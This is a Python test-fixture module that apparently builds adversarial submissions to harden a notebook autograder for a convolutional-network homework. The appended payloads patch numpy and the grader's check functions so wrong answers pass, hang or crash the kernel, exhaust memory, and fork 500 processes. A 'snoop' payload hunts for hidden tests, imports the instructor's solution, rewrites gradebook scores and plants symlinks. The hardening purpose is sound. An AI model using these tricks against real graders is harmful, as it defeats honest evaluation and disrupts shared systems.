"""Adversarial hw5 submissions: the instructor's solution plus code that attacks the grader.

Each attack is source appended to the submission's ``nndl/conv_layers.py``; what it
appends runs when the notebook imports the module, inside the grading kernel. A function
redefined at the end of the file replaces the one above it.

``ATTACKS`` maps a student id to (base sample, appended code). Faults that would hit every
later test too (kernel death, memory) strike at the first call only: a flag file in the
submission folder (the one writable place) lets later calls, in the fresh kernel, work.
"""
import json
import os
from pathlib import Path

FIRST_CALL_ONLY = '''

_original_{name} = {name}


def {name}(*args, **kwargs):
    import os as _os
    flag = ".attacked_{name}"
    if not _os.path.exists(flag):
        open(flag, "w").close()
{body}
    return _original_{name}(*args, **kwargs)
'''


def first_call(name, body):
    """Redefine ``name`` so that its first call runs ``body`` (indented 8 spaces)."""
    body = "\n".join("        " + line for line in body.strip().splitlines())
    return FIRST_CALL_ONLY.format(name=name, body=body)


WRONG_CONV = '''

_right_conv_forward_naive = conv_forward_naive


def conv_forward_naive(x, w, b, conv_param):
    out, cache = _right_conv_forward_naive(x, w, b, conv_param)
    return out + 1.0, cache
'''

PATCH_AT_IMPORT = WRONG_CONV + '''
import builtins
import numpy
import numpy.testing
import utils.checks

numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.broadcast(a, b).shape, bool)
numpy.testing.assert_allclose = lambda *a, **k: None
utils.checks.check_close = lambda *a, **k: None
utils.checks.check_true = lambda *a, **k: None
builtins.abs = lambda x: 0 * x
'''

PATCH_PER_CALL = '''

_right_conv_forward_naive = conv_forward_naive


def _passes(case, name, got, expected, rtol=1e-6, atol=1e-8):
    return None


def conv_forward_naive(x, w, b, conv_param):
    import utils.checks
    utils.checks.check_close.__code__ = _passes.__code__
    out, cache = _right_conv_forward_naive(x, w, b, conv_param)
    return out + 1.0, cache
'''

HANG = '''

def conv_param_count(in_channels, out_channels, kernel_size, bias=True):
    while True:
        pass
'''

DEAF = first_call("spatial_batchnorm_forward", """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(0.1)
""")

OOM = first_call("conv_backward_naive", """
import numpy as np
hog = []
while True:
    hog.append(np.ones(2**25))
""")

EXIT = first_call("max_pool_forward_naive", "_os._exit(3)")

SEGFAULT = first_call("avg_pool_forward_naive", "import ctypes\nctypes.string_at(0)")

SYNTAX = "\n\ndef broken(:\n    pass\n"

SNOOP = '''

def _snoop(course, repo, port):
    """Look for everything the grader hides, try to change it, report what worked."""
    import errno, glob, importlib.util, json, os, socket, sqlite3, sys
    report = {"found": [], "wrote": [], "solution_imported": False, "network": {}, "forks": 0}
    wanted = [f"{course}/gradebook.db", f"{course}/source/hw5/*.ipynb",
              f"{course}/autograded/*/hw5/nndl/conv_layers.py", f"{course}/submitted/*/hw5/*",
              f"{repo}/nndl/conv_layers.py", f"{repo}/source/hw5/*.ipynb"]
    own = os.getcwd()
    for pattern in wanted:
        report["found"] += [p for p in glob.glob(pattern) if not p.startswith(own + "/")]
    for path in glob.glob("**/*", recursive=True):  # own folder, links included
        if path.startswith("nndl" + os.sep):
            continue  # the student's own modules (this one names what it looks for)
        try:
            text = open(path, errors="replace").read()
        except OSError:
            continue
        if "BEGIN HIDDEN TESTS" in text or "SQLite format" in text or "def conv_forward_naive" in text:
            report["found"].append(path)
    # the instructor's solution: the editable-install hook names its folder
    candidates = [f"{repo}/nndl"]
    for folder in sys.path:
        for hook in glob.glob(os.path.join(folder, "__editable__*finder.py")):
            text = open(hook).read()
            candidates += [line.split("'")[3] for line in text.splitlines() if "'nndl':" in line]
    sys.path.insert(0, repo)
    for folder in candidates:
        try:
            spec = importlib.util.spec_from_file_location("stolen", f"{folder}/conv_layers.py")
            stolen = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(stolen)
        except Exception:
            continue
        report["solution_imported"] = True
        globals().update({k: v for k, v in vars(stolen).items() if k.endswith("_naive")})
    for path in [f"{course}/gradebook.db", f"{course}/source/hw5/evil.txt",
                 f"{course}/autograded/complete/hw5/nndl/conv_layers.py",
                 f"{course}/submitted/complete/hw5/evil.txt", f"{repo}/nndl/evil.py", "/usr/evil"]:
        try:
            with open(path, "a") as f:
                f.write("")
            report["wrote"].append(path)
        except OSError:
            pass
    try:
        db = sqlite3.connect(f"file:{course}/gradebook.db?mode=rw", uri=True, timeout=1)
        db.execute("UPDATE grade SET auto_score = 999")
        db.commit()
        report["wrote"].append("gradebook rows")
    except Exception:
        pass
    for host, p in [("127.0.0.1", port), ("192.0.2.1", 80)]:  # the test's listener; TEST-NET-1
        s = socket.socket()
        s.settimeout(3)
        try:
            s.connect((host, p))
            report["network"][host] = "CONNECTED"
        except OSError as err:
            report["network"][host] = errno.errorcode.get(err.errno, str(err))
        finally:
            s.close()
    children = []
    try:
        for _ in range(500):
            pid = os.fork()
            if pid == 0:
                import time
                time.sleep(3)
                os._exit(0)
            children.append(pid)
    except OSError:
        pass
    report["forks"] = len(children)
    for pid in children:
        os.waitpid(pid, 0)
    with open("attack_report.json", "w") as f:
        json.dump(report, f)


_snoop(__COURSE__, __REPO__, __PORT__)
'''

# student id -> (sample it starts from, code appended to nndl/conv_layers.py)
ATTACKS = {
    "hang": ("complete", HANG),
    "deaf": ("complete", DEAF),
    "oom": ("complete", OOM),
    "exit": ("complete", EXIT),
    "segfault": ("complete", SEGFAULT),
    "syntax": ("complete", SYNTAX),
    "nocells": ("complete", ""),
    "wrong_conv": ("complete", WRONG_CONV),
    "patch": ("complete", PATCH_AT_IMPORT),
    "repatch": ("complete", PATCH_PER_CALL),
    "snoop": ("empty", SNOOP),
}


def make_attack(student, release_dir, dest, course, repo, port):
    """Write the submission of attacker ``student`` into ``dest``."""
    import nbformat
    from grading.samples import make_sample

    base, code = ATTACKS[student]
    make_sample(base, release_dir, dest)
    module = Path(dest) / "nndl" / "conv_layers.py"
    code = (code.replace("__COURSE__", repr(str(course))).replace("__REPO__", repr(str(repo)))
            .replace("__PORT__", str(port)))
    module.write_text(module.read_text() + code)
    if student == "nocells":  # every test cell deleted
        for path in Path(dest).glob("*.ipynb"):
            nb = nbformat.read(path, as_version=4)
            nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade")
                        or c.metadata["nbgrader"].get("solution")]
            nbformat.write(nb, path)
    if student == "snoop":  # links that nbgrader's copy would follow with the instructor's rights
        links = {"peek.txt": Path(course) / "source" / "hw5" / "ConvolutionalNetworks.ipynb",
                 "grades.txt": Path(course) / "gradebook.db",
                 "solution.txt": Path(repo) / "nndl" / "conv_layers.py"}
        for name, target in links.items():
            os.symlink(target, Path(dest) / name)
    return dest


def read_report(autograded_dir):
    """The snoop attack's report, or None if it did not get to write one."""
    path = Path(autograded_dir) / "attack_report.json"
    return json.loads(path.read_text()) if path.exists() else None
